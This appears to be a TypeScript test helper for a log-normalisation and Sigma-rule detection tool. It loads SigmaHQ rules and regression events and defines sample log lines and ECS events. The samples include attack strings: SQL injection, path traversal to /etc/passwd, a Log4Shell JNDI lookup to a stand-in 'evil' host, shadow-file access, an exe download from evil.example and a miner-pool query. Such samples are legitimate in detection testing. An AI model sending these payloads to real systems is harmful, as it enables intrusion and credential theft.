import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isObject, type JsonObject } from '@tidewatch/event';
import { createNormaliser } from '@tidewatch/normalize';
import { loadRules, type Selection, type SigmaRule } from '@tidewatch/sigma';
import { sharedData } from '../../../test/require.ts';
import { random } from '../../../test/seed.ts';

const folder = join(sharedData, 'sigmahq');

/** All rules of SigmaHQ; one address stands for every placeholder. */
export async function sigmahqRules(): Promise<readonly SigmaRule[]> {
  const paths = [
    'rules',
    'rules-emerging-threats',
    'rules-threat-hunting',
    'rules-compliance',
    'rules-placeholder',
  ].map((name) => join(folder, name));
  const { rejected } = await loadRules({ paths });
  const names = rejected.flatMap(({ file }) =>
    [...readFileSync(file, 'utf8').matchAll(/%([^%\s\\]+)%/g)].map(([, name]) => name as string),
  );
  const placeholders = Object.fromEntries(names.map((name) => [name, ['192.0.2.1']]));
  return (await loadRules({ paths, placeholders })).rules;
}

/** The events of SigmaHQ's regression data, as evtx_dump writes them. */
export function regressionEvents(): JsonObject[] {
  const at = join(folder, 'regression_data');
  return readdirSync(at, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.json'))
    .sort()
    .flatMap((name) =>
      readFileSync(join(at, name), 'utf8')
        .replace(/^\ufeff/, '')
        .split(/^(?=\{)/m)
        .filter((piece) => piece.trim() !== '')
        .map((piece) => JSON.parse(piece) as JsonObject),
    );
}

/** The same events with a value turned into another case, cut or left out: nearly what the rules look for. */
export function altered(events: readonly JsonObject[], seed: number): JsonObject[] {
  const next = random(seed);
  return events.flatMap((event) => {
    const copy = structuredClone(event);
    const data = isObject(copy.Event) && isObject(copy.Event.EventData) ? copy.Event.EventData : {};
    const names = Object.keys(data).filter((name) => typeof data[name] === 'string');
    const name = names[Math.floor(next() * names.length)];
    if (name === undefined) return [];
    const value = String(data[name]);
    const changes = [value.toUpperCase(), value.toLowerCase(), `${value} `, value.slice(1), '', '-', null];
    data[name] = changes[Math.floor(next() * changes.length)] as string | null;
    return [copy];
  });
}

/** An event with the first value of every item of a rule's first selections, in a form a sender may give it. */
export function eventFor({ detection, logsource }: SigmaRule, channel: string, id: string): JsonObject {
  const data: JsonObject = {};
  for (const selection of [...detection.selections.values()].slice(0, 2)) fill(selection, data);
  if (logsource.product !== 'windows') return data;
  const { EventID = id, Channel = channel, Provider_Name: provider, ...fields } = data;
  return {
    Event: {
      System: {
        EventID,
        Channel,
        Computer: 'dc1',
        ...(provider === undefined ? {} : { Provider: { '#attributes': { Name: provider } } }),
      },
      EventData: fields,
    },
  };
}

function fill(selection: Selection, into: JsonObject): void {
  if (selection.kind !== 'item') {
    const some = selection.kind === 'and' ? selection.of : selection.of.slice(0, 1);
    for (const each of some) fill(each, into);
    return;
  }
  const values = selection.quantifier === 'all' ? selection.values : selection.values.slice(0, 1);
  const texts = values.map(({ pattern }) =>
    pattern.kind === 'text'
      ? pattern.tokens.map((token) => (typeof token === 'string' ? token : token === 2 ? '/' : 'x')).join('')
      : '192.0.2.1',
  );
  into[selection.field ?? 'message'] ??= texts.join('');
}

/** Lines as sshd, sudo and nginx write them. */
export const lines: readonly string[] = [
  '<86>May  1 10:00:00 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 50022 ssh2',
  '<86>May  1 10:00:02 web1 sshd[812]: Accepted password for root from 203.0.113.9 port 50022 ssh2',
  '<85>May  1 10:00:05 web1 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow',
  '<30>May  1 10:00:09 web1 kernel: nginx[77]: segfault at 0 ip 0 sp 0 error 4',
  '203.0.113.9 - - [01/May/2026:10:00:00 +0000] "GET /index.php?id=1%20UNION%20SELECT%20password HTTP/1.1" 200 12 "-" "sqlmap/1.7"',
  '203.0.113.9 - - [01/May/2026:10:00:01 +0000] "GET /../../etc/passwd HTTP/1.1" 404 12 "-" "curl/8.1"',
  '203.0.113.9 - - [01/May/2026:10:00:02 +0000] "POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1" 500 12 "-" "Nuclei"',
  '203.0.113.9 - - [01/May/2026:10:00:03 +0000] "GET /?x=%24{jndi:ldap://evil/a} HTTP/1.1" 200 12 "-" "Mozilla/5.0"',
  'java.lang.ProcessImpl: Cannot run program "sh" by org.apache.commons.ognl.OgnlException',
];

/** ECS documents that shippers send ready-made. */
export const documents: readonly JsonObject[] = [
  {
    event: { dataset: 'aws.cloudtrail', module: 'aws' },
    aws: { cloudtrail: { eventSource: 'iam.amazonaws.com', eventName: 'CreateUser' } },
  },
  {
    event: { dataset: 'okta.system', module: 'okta' },
    okta: { eventType: 'user.account.lock', displayMessage: 'Max sign in attempts exceeded' },
  },
  {
    event: { dataset: 'zeek.dns', module: 'zeek' },
    dns: { question: { name: 'pool.minexmr.com', type: 'A' } },
    source: { ip: '192.0.2.1' },
  },
  {
    event: { dataset: 'endpoint.events.process' },
    host: { os: { type: 'linux' } },
    process: {
      executable: '/usr/bin/base64',
      command_line: 'base64 -d x',
      parent: { executable: '/bin/bash' },
    },
    user: { name: 'root', domain: 'web1' },
  },
  {
    event: { dataset: 'endpoint.events.process' },
    host: { os: { type: 'darwin' } },
    process: { executable: '/usr/bin/osascript', command_line: 'osascript -e "display dialog password"' },
  },
  {
    event: { dataset: 'auditd.log', module: 'auditd' },
    auditd: { log: { record_type: 'EXECVE', a0: 'chattr', a1: '-i', a2: '/etc/shadow' } },
  },
  {
    event: { dataset: 'squid.access' },
    url: { original: 'http://evil.example/a.exe', domain: 'evil.example', extension: 'exe' },
    user_agent: { original: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0' },
    http: { request: { method: 'GET' }, response: { status_code: 200 } },
  },
];

/** What Tidewatch stores: the JSON of each event after the stream's own normaliser. */
export function stored(inputs: readonly (string | JsonObject)[]): { event: JsonObject; json: string }[] {
  const normalise = createNormaliser();
  return inputs.flatMap((input) => {
    const text = typeof input === 'string' ? input : JSON.stringify(input);
    const format = typeof input === 'string' ? 'auto' : 'json';
    const outcome = normalise(
      {
        bytes: Buffer.from(text),
        format,
        position: { kind: 'none' },
        received: 1_767_225_600_000,
        hints: {},
      },
      'convert',
    );
    if (outcome.status !== 'ok') return [];
    const { json } = outcome.value;
    return [{ event: JSON.parse(json) as JsonObject, json }];
  });
}
